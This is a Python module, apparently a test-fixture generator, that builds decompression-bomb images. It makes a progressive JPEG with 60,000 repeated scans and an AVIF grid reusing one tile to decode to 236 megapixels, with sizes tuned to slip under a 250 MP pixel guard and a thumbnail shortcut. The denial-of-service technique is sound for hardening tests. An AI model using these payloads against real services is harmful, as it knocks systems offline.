"""Bomb files built in code: a progressive JPEG of 60,000 scans, an AVIF that decodes huge."""

from __future__ import annotations

import io
import struct

EOB_RUN_MAX = 32767  # EOB14 with all 14 extra bits set


class BitWriter:
    """JPEG entropy-coded bits, MSB first, with 0xFF byte stuffing."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def write(self, value: int, bits: int) -> None:
        """Append the low `bits` bits of `value`."""
        for i in range(bits - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self._byte(self.acc)
                self.acc, self.n = 0, 0

    def _byte(self, byte: int) -> None:
        self.out.append(byte)
        if byte == 0xFF:
            self.out.append(0x00)

    def flush(self) -> bytes:
        """Pad with 1 bits to a byte boundary, as the standard asks."""
        if self.n:
            self.write((1 << (8 - self.n)) - 1, 8 - self.n)
        return bytes(self.out)


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _dht(table_class: int, lengths: dict[int, list[int]]) -> bytes:
    counts = bytes(len(lengths.get(n, [])) for n in range(1, 17))
    symbols = bytes(s for n in range(1, 17) for s in lengths.get(n, []))
    return _segment(0xC4, bytes([table_class << 4]) + counts + symbols)


def _sos(ss: int, se: int) -> bytes:
    return _segment(0xDA, bytes([1, 1, 0x00, ss, se, 0x00]))


def _eob_runs(blocks: int) -> bytes:
    """AC first-scan data: the whole band of every block is zero, said in EOB runs.
    Codes: '0' = EOB14 (run 16384 + 14 bits), '10' = EOB13 (run 8192 + 13 bits)."""
    bits = BitWriter()
    left = blocks
    while left >= 16384:
        run = min(left, EOB_RUN_MAX)
        bits.write(0b0, 1)
        bits.write(run - 16384, 14)
        left -= run
    if left:
        assert 8192 <= left < 16384, left
        bits.write(0b10, 2)
        bits.write(left - 8192, 13)
    return bits.flush()


def progressive_scan_bomb(side: int = 3000, scans: int = 60_000) -> bytes:
    """A grey progressive JPEG whose AC band is 'coded' again in every one of `scans` scans.

    Each scan holds a few bytes, yet a decoder walks every block for it. `side` is under
    8 x 400 px, so even a 1/8-scale decode for the 400 px thumbnail needs the AC scans."""
    blocks = (side // 8) ** 2
    dc = BitWriter()
    for _ in range(blocks):
        dc.write(0, 1)  # DC difference category 0
    ac = _eob_runs(blocks)
    out = io.BytesIO()
    out.write(b"\xff\xd8")
    out.write(_segment(0xDB, bytes([0]) + bytes([1] * 64)))
    out.write(_segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + bytes([1, 0x11, 0])))
    out.write(_dht(0, {1: [0x00]}))
    out.write(_dht(1, {1: [0xE0], 2: [0xD0]}))
    out.write(_sos(0, 0) + dc.flush())
    scan = _sos(1, 63) + ac
    for _ in range(scans):
        out.write(scan)
    out.write(b"\xff\xd9")
    return out.getvalue()


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def _full_box(kind: bytes, version: int, flags: int, body: bytes) -> bytes:
    return _box(kind, struct.pack(">I", (version << 24) | flags) + body)


def _children(data: bytes) -> dict[bytes, bytes]:
    """Top-level boxes of `data` by type (whole boxes, headers included)."""
    found: dict[bytes, bytes] = {}
    at = 0
    while at + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[at : at + 8])
        found.setdefault(kind, data[at : at + size])
        at += size
    return found


def _tile(side: int) -> tuple[bytes, list[bytes]]:
    """One grey AV1 tile made by libvips: (its coded data, its av1C/pixi/colr properties)."""
    import pyvips

    avif = (pyvips.Image.black(side, side, bands=3) + 128).heifsave_buffer(compression="av1", Q=30)
    top = _children(avif)
    meta = _children(top[b"meta"][12:])  # a FullBox: 4 bytes of version and flags first
    ipco = _children(_children(meta[b"iprp"][8:])[b"ipco"][8:])
    props = [ipco[k] for k in (b"av1C", b"pixi", b"colr") if k in ipco]
    # iloc v0 with 4-byte offsets and lengths: the first item is the image (Exif follows).
    iloc = meta[b"iloc"]
    assert iloc[8] == 0 and iloc[12:14] == b"\x44\x40", iloc[:16].hex()
    _item, _ref, base, extents, offset, length = struct.unpack(">HHIHII", iloc[16:34])
    assert extents == 1
    return avif[base + offset : base + offset + length], props


def avif_decode_bomb(tiles: int = 15, side: int = 1024) -> bytes:
    """A ~10 KB AVIF whose grid names one coded tile tiles x tiles times: it decodes to
    (tiles * side)^2 pixels, 236 MP by default (under the 250 MP pixel guard; libheif
    allows at most 256 items)."""
    data, props = _tile(side)
    full = tiles * side
    count = tiles * tiles
    ids = range(2, count + 2)
    grid = struct.pack(">BBBBHH", 0, 0, tiles - 1, tiles - 1, full, full)
    ispe = [_full_box(b"ispe", 0, 0, struct.pack(">II", s, s)) for s in (side, full)]
    ipco = _box(b"ipco", b"".join([*props, *ispe]))
    n_props = len(props)
    # Property indexes are 1-based; 0x80 marks a property essential.
    tile_assoc = bytes(
        [n_props + 1, *[0x80 | (i + 1) if i == 0 else i + 1 for i in range(n_props)]]
    )
    assoc = [struct.pack(">HB", 1, 1) + bytes([n_props + 2])]
    assoc += [struct.pack(">HB", i, len(tile_assoc)) + tile_assoc for i in ids]
    ipma = _full_box(b"ipma", 0, 0, struct.pack(">I", count + 1) + b"".join(assoc))
    infe = [_full_box(b"infe", 2, 0, struct.pack(">HH", 1, 0) + b"grid\x00")]
    infe += [_full_box(b"infe", 2, 1, struct.pack(">HH", i, 0) + b"av01\x00") for i in ids]
    iinf = _full_box(b"iinf", 0, 0, struct.pack(">H", count + 1) + b"".join(infe))
    dimg = _box(b"dimg", struct.pack(">HH", 1, count) + b"".join(struct.pack(">H", i) for i in ids))
    iref = _full_box(b"iref", 0, 0, dimg)
    head = [
        _full_box(b"hdlr", 0, 0, b"\x00" * 4 + b"pict" + b"\x00" * 13),
        _full_box(b"pitm", 0, 0, struct.pack(">H", 1)),
    ]
    ftyp = _box(b"ftyp", b"avif" + b"\x00" * 4 + b"mif1avifmiaf")

    def layout(mdat_at: int) -> bytes:
        grid_at, tile_at = mdat_at + 8, mdat_at + 8 + len(grid)
        entries = [struct.pack(">HHIHII", 1, 0, 0, 1, grid_at, len(grid))]
        entries += [struct.pack(">HHIHII", i, 0, 0, 1, tile_at, len(data)) for i in ids]
        iloc = _full_box(
            b"iloc", 0, 0, bytes([0x44, 0x40]) + struct.pack(">H", count + 1) + b"".join(entries)
        )
        return _full_box(
            b"meta", 0, 0, b"".join([*head, iloc, iinf, iref, _box(b"iprp", ipco + ipma)])
        )

    meta = layout(0)
    meta = layout(len(ftyp) + len(meta))
    return ftyp + meta + _box(b"mdat", grid + data)
